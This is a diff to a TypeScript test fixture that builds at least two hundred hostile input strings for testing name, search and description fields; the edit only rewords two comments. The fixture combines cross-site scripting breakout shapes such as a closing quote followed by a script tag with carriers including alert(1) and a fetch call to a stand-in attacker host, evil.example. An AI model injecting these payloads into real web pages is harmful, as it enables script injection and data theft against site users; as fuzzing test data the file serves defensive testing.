@@ -2,7 +2,7 @@ import { hostileHtml } from './hostile-html.ts'
 
 const carriers = ['alert(1)', 'fetch(`//evil.example`)']
 
-/** Text that wants to leave where it is written: an attribute, a title, a script, JSON, an address, a template. */
+/** Text that tries to break out of its place: an attribute, a title, a script, JSON, a URL, a template. */
 const shapes: readonly ((code: string) => string)[] = [
   (code) => `"><script>${code}</script>`,
   (code) => `'><script>${code}</script>`,
@@ -31,8 +31,8 @@ const shapes: readonly ((code: string) => string)[] = [
 ]
 
 /**
- * At least two hundred texts, the hostile HTML among them, that a name, a search or a description may carry. PostgreSQL
- * stores no NUL.
+ * At least two hundred texts, including the hostile HTML, for a name, a search or a description. PostgreSQL stores no
+ * NUL, so none contains one.
  */
 export const hostileTexts: readonly string[] = [
   ...hostileHtml,
